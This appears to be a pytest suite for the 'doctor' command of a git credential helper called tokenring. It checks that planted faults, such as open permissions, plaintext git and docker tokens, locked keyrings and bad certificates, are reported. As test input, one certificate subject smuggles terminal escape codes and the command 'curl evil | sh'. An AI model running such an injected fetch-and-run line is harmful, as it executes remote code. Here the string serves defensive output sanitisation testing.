# SPDX-License-Identifier: MIT
"""tokenring doctor: each planted fault is found, explained, and nothing else is made up.

A fault is planted into a set-up that is sound, so that exactly what it adds is
seen; `find` demands a finding by its kind, with what it has to tell.
"""
import base64
import email.utils
import json
import os
import pathlib
import re
import shutil
import socket
import ssl
import subprocess
import tempfile
import threading
import time

import pytest

import sim
from conftest import BIN, BUILD, LIBEXEC, TOP, dead_port, which
from elsewhere import elsewhere
from keyring import Bus, Keyring, StuckPrompt

SECRET = "s3cr3t-of-the-client"
LEVELS = ["ok", "note", "warning", "error"]
ANSWER = ["version", "online", "worst", "lost", "findings"]
FINDING = ["check", "id", "severity", "what", "todo"]
CHECKS = ["configuration", "files", "programs", "clock", "kernel keyring", "D-Bus", "Secret Service", "git", "docker",
          "servers"]


@pytest.fixture
def sound(person):
    """Somebody with a profile that needs no keyring, and nothing wrong."""
    secret = person.base / "client-secret"
    secret.write_text(SECRET + "\n")
    secret.chmod(0o600)
    person.configure("[profile itc]\nprovider = oauth2\nclient_id = c\ntoken_url = https://localhost:1/t\n"
                     f"match = https://git.example.com\nstore = none\nclient_secret_file = {secret}\n")
    person.state.mkdir(mode=0o700)
    (person.home / ".gitconfig").write_text("[credential]\n\thelper = tokenring\n")
    return person


def examine(person, *args, **kw):
    """All findings; the form of the answer is held here (tokenring(1))."""
    r = person.tokenring("doctor", "--json", *args, **kw)
    assert SECRET not in r.stdout + r.stderr
    answer = json.loads(r.stdout)
    assert list(answer) == ANSWER
    assert answer["online"] is ("--online" in args) and answer["lost"] == 0
    for f in answer["findings"]:
        assert list(f) == FINDING
        assert f["check"] in CHECKS and f["severity"] in LEVELS
        assert re.fullmatch(r"[a-z-]+", f["id"]) and f["what"]
        assert f["todo"] is None or f["todo"]
        assert f["severity"] in ("ok", "note") or f["todo"], f"nothing to do: {f}"
        assert f["what"].isprintable() and (f["todo"] or "x").isprintable()
    levels = [LEVELS.index(f["severity"]) for f in answer["findings"]]
    assert answer["worst"] == LEVELS[max(levels)]
    checks = [CHECKS.index(f["check"]) for f in answer["findings"]]
    assert checks == sorted(checks)
    wrong = sum(level >= 2 for level in levels)
    assert r.returncode == (1 if wrong else 0) and (r.stderr == "") == (wrong == 0), r.stderr
    return answer["findings"]


def find(person, kind, severity, what, todo, *args, **kw):
    """The one finding of that kind; nothing of another kind is wrong."""
    found = examine(person, *args, **kw)
    bad = [f for f in found if f["severity"] in ("warning", "error") and f["id"] != kind]
    assert not bad
    f, = [f for f in found if f["id"] == kind]
    assert f["severity"] == severity
    assert re.search(what, f["what"]), f["what"]
    assert re.search(todo, f["todo"] or ""), f["todo"]
    return f


def test_nothing_wrong(sound):
    found = examine(sound)
    assert {f["severity"] for f in found} <= {"ok", "note"}
    r = sound.tokenring("doctor")
    assert (r.returncode, r.stderr) == (0, "")
    assert "ok       profile 'itc' (oauth2)" in r.stdout
    assert "git asks tokenring for git.example.com, and nobody else" in r.stdout
    # Nothing was made or changed.
    assert list(sound.state.iterdir()) == []


def test_everything_broken(tmp_path, person):
    """No home, no configuration, no PATH, no bus, another's directory: still an answer, and within its time."""
    begun = time.monotonic()
    person.configure("[profile\nx\n")
    r = person.run(BIN / "tokenring", "doctor", "--online",
                   env={"PATH": None, "HOME": "/nonexistent", "XDG_STATE_HOME": "/proc/nonexistent",
                        "TOKENRING_CONFIG": str(tmp_path / "missing"), "DBUS_SESSION_BUS_ADDRESS": "tcp:host=x"})
    assert time.monotonic() - begun < 10
    assert r.returncode == 1 and re.fullmatch(r"tokenring: doctor: \d+ errors?, \d+ warnings?\n", r.stderr)
    assert [c for c in r.stdout.splitlines() if c in CHECKS] == [c for c in CHECKS if c != "servers"]


def test_the_page_has_what_is_answered():
    page = (TOP / "helper" / "tokenring.1").read_text()
    page = page[page.index(".Sh DIAGNOSIS"):page.index(".Sh ENVIRONMENT")]
    assert re.findall(r"^\.It Li (\w+)$", page, flags=re.M) == [*ANSWER, *FINDING]
    words = page[page.index(".It Li check"):page.index(".It Li id")]
    assert re.findall(r"^\.Ql (.+?)(?: [,.])?$", words, flags=re.M) == CHECKS
    words = page[page.index(".It Li severity"):page.index(".It Li what")]
    assert re.findall(r"^\.Ql (\w+)", words, flags=re.M) == LEVELS


def test_usage(sound):
    assert sound.tokenring("doctor", "itc").returncode == 2


# --- the configuration ---------------------------------------------------------

def test_a_faulty_line(sound):
    with sound.config.open("a") as f:
        f.write("timeout = 3\n")
    find(sound, "fault", "error", r"tokenring\.conf:8: timeout: a duration is", "correct that line")


def test_a_configuration_that_others_can_write(sound):
    sound.config.chmod(0o666)
    find(sound, "writable", "error", r"others may write to the configuration .*mode 666", rf"^chmod go-w {sound.config}$")


def test_a_directory_that_others_can_write(sound):
    sound.base.chmod(0o777)
    find(sound, "writable", "error", "the configuration's directory", "chmod go-w")


def test_no_such_configuration(sound):
    sound.config.unlink()
    found = examine(sound)
    assert {f["id"] for f in found if f["severity"] != "ok"} >= {"unreadable", "no-profile"}


def test_a_secret_that_is_not_in_the_environment(sound):
    sound.configure("[profile itc]\nprovider = itcare\nclient_id = c\nstore = none\nclient_secret_env = NOT_SET\n")
    find(sound, "secret-not-in-environment", "error", "'NOT_SET', which is not set", "client_secret_file")


def test_two_profiles_for_one_place(sound):
    text = sound.config.read_text()
    sound.configure(text + text.replace("[profile itc]", "[profile two]"))
    found = [f for f in examine(sound) if f["id"] == "same-match"]
    assert found and "'itc'" in found[0]["what"] and "two" in found[0]["what"] and "--profile" in found[0]["todo"]


# --- files -----------------------------------------------------------------------

def test_a_state_directory_that_is_open(sound):
    sound.state.joinpath("tokenring").mkdir()
    sound.state.joinpath("tokenring").chmod(0o755)
    find(sound, "readable", "error", "the state directory .* is open to others", rf"^chmod 700 {sound.state}/tokenring$")


def test_a_state_directory_that_is_a_link(sound):
    sound.state.joinpath("tokenring").symlink_to("/tmp")
    find(sound, "not-a-directory", "error", "a symbolic link", "remove it")


def test_a_stored_secret_that_others_can_read(sound):
    store = sound.state / "tokenring" / "store"
    store.mkdir(parents=True, mode=0o700)
    store.parent.chmod(0o700)
    (store / "0.refresh").write_text("x")
    (store / "0.refresh").chmod(0o644)
    find(sound, "readable", "error", r"0\.refresh' is open to others", r"chmod 600 .*0\.refresh$")


def test_a_read_only_state(sound):
    if os.getuid() == 0:
        pytest.skip("root may write anywhere")
    sound.state.chmod(0o500)
    find(sound, "read-only", "error", "cannot be written to", "XDG_STATE_HOME")
    sound.state.chmod(0o700)


@pytest.mark.parametrize("plant,kind,what,todo", [
    (lambda f: f.chmod(0o644), "secret-readable", "everyone can read", "chmod 600 .*new secret"),
    (lambda f: f.unlink(), "file", "No such file", "correct the path"),
    (lambda f: f.write_text(""), "file", "it is empty", "correct the path"),
])
def test_the_client_secret_file(sound, plant, kind, what, todo):
    plant(sound.base / "client-secret")
    find(sound, kind, "error", what, todo)


@pytest.mark.parametrize("text,kind,severity", [
    ("no certificate\n", "no-certificate", "error"),
    ("-----BEGIN CERTIFICATE-----\n-----BEGIN PRIVATE KEY-----\n", "private-key", "warning"),
])
def test_the_ca_file(sound, text, kind, severity):
    ca = sound.base / "ca.pem"
    ca.write_text(text)
    with sound.config.open("a") as f:
        f.write(f"ca_file = {ca}\n")
    find(sound, kind, severity, "the ca_file", "certificate|NEW.pem")


# --- programs, clock, kernel ------------------------------------------------------

def test_git_does_not_find_us(sound):
    find(sound, "not-in-path", "warning", "PATH has no git-credential-tokenring", f"export PATH={BIN}:",
         env={"PATH": "/usr/bin:/bin"})


def test_git_finds_another_installation(sound):
    other = sound.base / "bin"
    other.mkdir()
    shutil.copy2(BIN / "tokenring", other / "git-credential-tokenring")
    find(sound, "other-installation", "warning", f"git runs '{other}/git-credential-tokenring'", "PATH",
         env={"PATH": f"{other}:/usr/bin:/bin"})


@pytest.fixture
def copied(sound):
    workers = pathlib.Path(tempfile.mkdtemp(prefix="w", dir="/tmp"))
    for name in ("tokenring-net", "tokenring-secret"):
        shutil.copy2(LIBEXEC / name, workers / name)
    sound.program = elsewhere(sound.base, workers)
    (sound.base / "git-credential-tokenring").symlink_to("tokenring")
    sound.workers = workers
    sound.env["PATH"] = f"{sound.base}:/usr/bin:/bin"
    sound.tokenring = lambda *args, **kw: sound.run(sound.program, *args, **kw)
    yield sound
    shutil.rmtree(workers)


def test_a_missing_worker(copied):
    (copied.workers / "tokenring-net").unlink()
    find(copied, "worker-missing", "error", "tokenring-net' cannot be run: No such file.*no token can be asked for",
         "install")


def test_a_worker_of_another_version(copied):
    worker = copied.workers / "tokenring-secret"
    worker.write_text("#!/bin/sh\nprintf 'tokenring-secret \\033[31m9.9\\n'\n")
    f = find(copied, "worker-version", "warning", "another version", "one build")
    assert "\033" not in f["what"] and "9.9" in f["what"]


def test_a_worker_that_does_not_run(copied):
    (copied.workers / "tokenring-secret").write_text("#!/bin/sh\nexit 3\n")
    find(copied, "worker-broken", "error", "does not work", "--version")


def test_a_clock_that_is_behind(copied):
    """Before the program's own time it cannot be."""
    later = time.time() + 5 * 86400
    os.utime(copied.program, (later, later))
    find(copied, "clock-behind", "error", "before this program was made", "timedatectl")


def test_no_kernel_keyring(sound):
    r = sound.run(BUILD / "tools" / "nokeys", BIN / "tokenring", "doctor")
    assert r.returncode == 0
    assert "note     the kernel keyring is not available" in r.stdout


# --- the session -------------------------------------------------------------------

def needing(person):
    """The profile keeps its secrets in the Secret Service."""
    person.configure(person.config.read_text().replace("store = none\n", ""))


def test_no_session_bus(sound):
    if os.path.exists(f"/run/user/{os.getuid()}/bus"):
        pytest.skip("this machine's user has a bus")
    found = examine(sound)
    assert [f["severity"] for f in found if f["id"] == "no-bus"] == ["note"]
    needing(sound)
    find(sound, "no-bus", "error", "DBUS_SESSION_BUS_ADDRESS is not set", "client_secret_file or store = file")


def test_a_bus_that_is_gone(sound):
    needing(sound)
    path = sound.base / "bus"
    with socket.socket(socket.AF_UNIX) as s:
        s.bind(str(path))
    find(sound, "bus-dead", "error", "Connection refused", "unset DBUS_SESSION_BUS_ADDRESS",
         env={"DBUS_SESSION_BUS_ADDRESS": f"unix:path={path},guid=00"})


def test_a_bus_on_another_machine(sound):
    needing(sound)
    find(sound, "bus-address", "error", "not a local socket", "", env={"DBUS_SESSION_BUS_ADDRESS": "tcp:host=evil\033[1m"})


def test_a_bus_without_a_keyring(sound):
    needing(sound)
    with Bus() as bus:
        sound.session(bus)
        find(sound, "no-service", "error", "no Secret Service", "gnome-keyring, KWallet or KeePassXC")


def test_a_keyring(sound):
    """Open, then locked, then stopped: each told, none unlocked."""
    needing(sound)
    with Keyring() as k:
        sound.session(k)
        found = {f["id"]: f for f in examine(sound)}
        assert "gnome-keyring" in found["service"]["what"] and "unlocked" in found["default"]["what"]
        assert "plain-session" not in found
        k.restart(unlock=False)
        for _ in range(2):
            find(sound, "locked", "error", "the default keyring is locked", "tokenring login")
        k.daemon.send_signal(19)
        begun = time.monotonic()
        find(sound, "unreachable", "error", "did not answer|does not answer|in time", "end it")
        assert time.monotonic() - begun < 6


def test_a_keyring_service_without_a_keyring(sound):
    """Of a service of our own, which tells what it was asked: it has plain sessions only, and no default."""
    needing(sound)
    with StuckPrompt(default=False) as s:
        sound.session(s)
        found = {f["id"]: f for f in examine(sound)}
        assert found["no-default"]["severity"] == "error" and "make it the default" in found["no-default"]["todo"]
        assert found["plain-session"]["severity"] == "note"
        assert not {"Prompt", "Unlock", "CreateCollection"} & set(s.calls)


def test_a_keyring_service_that_would_prompt(sound):
    needing(sound)
    with StuckPrompt() as s:
        sound.session(s)
        find(sound, "locked", "error", "the default keyring is locked", "tokenring login")
        assert {"ReadAlias", "Get"} <= set(s.calls) <= {"ReadAlias", "Get", "OpenSession", "Close"}


# --- git and docker -----------------------------------------------------------------

def test_git_keeps_our_tokens_in_plain_text(sound):
    which("git")
    (sound.home / ".gitconfig").write_text("[credential]\n\thelper = tokenring\n\thelper = store --file=/x/y\n")
    f, = [f for f in examine(sound) if f["id"] == "git-plaintext"]
    assert f["severity"] == "error" and "git.example.com" in f["what"] and "'store' (in " in f["what"]
    assert ".gitconfig" in f["what"] and "/x/y" not in f["what"]
    # What it says to do is what helps.
    r = sound.run("sh", "-c", f["todo"] + " --yes")
    assert r.returncode == 0, r
    assert "git-plaintext" not in {f["id"] for f in examine(sound)}


def test_git_asks_another_helper_first(sound):
    which("git")
    (sound.home / ".gitconfig").write_text(
        "[credential]\n\thelper = !f() { echo password=" + SECRET + "; }; f\n"
        '[credential "https://git.example.com"]\n\thelper = tokenring\n')
    find(sound, "git-before", "warning", "asks the helper 'a shell command' .* before tokenring", "configure git")


def test_git_has_kept_a_token_in_a_file(sound):
    which("git")
    (sound.home / ".git-credentials").write_text(f"https://u:{SECRET}@other.example\nhttps://u:{SECRET}@git.example.com\n")
    find(sound, "git-plain-file", "error", "holds a credential of git.example.com in plain text", "delete that line")


def test_git_cannot_be_asked(sound):
    which("git")
    (sound.home / ".gitconfig").write_text("[broken\n")
    find(sound, "git-unreadable", "warning", "git cannot read its configuration", "git config --list")


def test_docker(sound):
    (sound.home / ".docker").mkdir()
    (sound.home / ".docker" / "config.json").write_text(json.dumps({
        "auths": {"registry.example.com": {"auth": base64.b64encode(f"u:{SECRET}".encode()).decode()},
                  "empty.example.com": {}},
        "credHelpers": {"other.example.com": "no-such-helper"}}))
    found = [(f["id"], f["what"]) for f in examine(sound) if f["severity"] == "warning"]
    assert [kind for kind, _ in found] == ["docker-plaintext", "docker-helper-missing"]
    assert "'registry.example.com'" in found[0][1] and "docker-credential-no-such-helper" in found[1][1]


# --- servers --------------------------------------------------------------------------

def test_an_unknown_certificate(sound, sainet):
    """What it says is enough to trust the server, and what it says to do works."""
    which("openssl")
    sound.configure("")
    # Not every machine knows localhost by name.
    sound.sainet(sainet, store="none", ca_file=None, url=sainet.url.replace("localhost", "127.0.0.1"))
    f = find(sound, "certificate", "error", "an authority that is not trusted", "administrator confirm", "--online")
    sha256 = re.search(r"SHA-256 ((?:[0-9A-F]{2}:){31}[0-9A-F]{2})$", f["what"])[1]
    assert "localhost" in f["what"] and re.search(r"names itself '[^']+'", f["what"])
    save = re.search(r"save it: (.*?) ; see that (openssl x509 .*?) prints", f["todo"])
    line = re.search(r"add to \[profile erp\]: (ca_file = (.*))$", f["todo"])
    os.makedirs(os.path.dirname(line[2]), exist_ok=True)
    subprocess.run(["sh", "-c", save[1]], env=sound.env, check=True, capture_output=True)
    shown = subprocess.run(["sh", "-c", save[2]], env=sound.env, check=True, capture_output=True, text=True).stdout
    assert shown.strip().endswith("=" + sha256)
    with sound.config.open("a") as config:
        config.write(line[1] + "\n")
    found = {f["id"]: f for f in examine(sound, "--online")}
    assert "certificate" not in found and "works" in found["server"]["what"]
    assert sainet.count("login") == 0, "nobody signs in"


def test_a_server_that_hangs_and_one_that_is_not_there(sound, sainet):
    sainet.fault("hang-accept", path="")
    port = dead_port()
    sound.configure("")
    sound.sainet(sainet, store="none", url=f"{sainet.url} https://localhost:{port}", connect_timeout="1s")
    begun = time.monotonic()
    found = [f for f in examine(sound, "--online") if f["id"] == "server-unreachable"]
    assert len(found) == 2 and f"localhost:{port}" in found[1]["what"] and "refused" in found[1]["what"]
    assert time.monotonic() - begun < 8


@pytest.mark.parametrize("cert,what", [("expired", "has expired"), ("other-name", "is for another name")])
def test_a_certificate_that_is_wrong(sound, ca, cert, what):
    with sim.Sainet(ca, cert=cert) as server:
        sound.configure("")
        sound.sainet(server, store="none")
        f = find(sound, "certificate", "error", what + ".*SHA-256 [0-9A-F:]{95}$", "tell the server's administrator",
                 "--online")
        assert "ca_file" not in f["todo"]


class Hostile(threading.Thread):
    """An https server with a certificate and an answer of its maker's choice; one thread, a few connections."""

    def __init__(self, directory, subject, days, answer):
        super().__init__(daemon=True)
        self.pem, key = str(directory / "own.pem"), str(directory / "own.key")
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
                        "-keyout", key, "-out", self.pem, "-days", str(days), "-utf8", "-subj", "/CN=" + subject,
                        "-addext", "subjectAltName=DNS:localhost"], check=True, capture_output=True)
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.context.load_cert_chain(self.pem, key)
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"https://localhost:{self.socket.getsockname()[1]}"
        self.answer, self.received = answer, b""

    def run(self):
        while True:
            try:
                conn, _ = self.socket.accept()
                with self.context.wrap_socket(conn, server_side=True) as tls:
                    self.received += tls.recv(4096)
                    tls.sendall(self.answer)
            except ssl.SSLError:
                continue
            except OSError:
                return

    def __enter__(self):
        self.start()
        return self

    def __exit__(self, *unused):
        self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()
        self.join()


def test_a_server_cannot_write_to_the_terminal(sound):
    """It names itself as it likes: no control character, no quotation mark, no command of its own is shown."""
    which("openssl")
    with Hostile(sound.base, "\033[2Jx'; curl evil | sh; \u009b31m'", 30, b"") as server:
        sound.configure(f"[profile erp]\nprovider = sainet\nurl = {server.url}\ndomain = P\nstore = none\n")
        r = sound.tokenring("doctor", "--online")
        line, = [x for x in r.stdout.splitlines() if "SHA-256" in x and "names itself" in x]
        assert all(x.isprintable() for x in r.stdout.splitlines())
        assert "names itself '/CN=" in line and "curl evil ? sh?" in line and line.count("'") == 4
        assert server.received == b"", "no request went over a connection that was not verified"


def test_a_servers_clock_and_a_certificate_about_to_end(sound):
    which("openssl")
    hour_ago = email.utils.formatdate(time.time() - 3600, usegmt=True)
    answer = f"HTTP/1.1 404 Not Found\r\nDate: {hour_ago}\r\nContent-Length: 0\r\n\r\n".encode()
    with Hostile(sound.base, "localhost", 3, answer) as server:
        sound.configure(f"[profile erp]\nprovider = sainet\nurl = {server.url}\ndomain = P\nstore = none\n"
                        f"ca_file = {server.pem}\n")
        found = {f["id"]: f for f in examine(sound, "--online")}
    assert re.search(r"clock is 3[56]\d\d s ahead of that of localhost:\d+$", found["clock-differs"]["what"])
    assert re.search("in [23] days", found["certificate-ends"]["what"])


def test_a_file_cannot_write_to_the_terminal(sound):
    sound.configure("[profile \"x\033[31m]\n\033 = 1\n")
    (sound.home / ".docker").mkdir()
    (sound.home / ".docker" / "config.json").write_text('{"auths": {"\\u001b[2J\\u009b": {"auth": "x"}}}')
    (sound.home / ".gitconfig").write_text('[credential]\n\thelper = "a\033[31mb"\n\thelper = tokenring\n')
    r = sound.tokenring("doctor")
    assert r.returncode == 1 and "credential of '?[2J??'" in r.stdout
    assert all(x.isprintable() for x in r.stdout.splitlines())
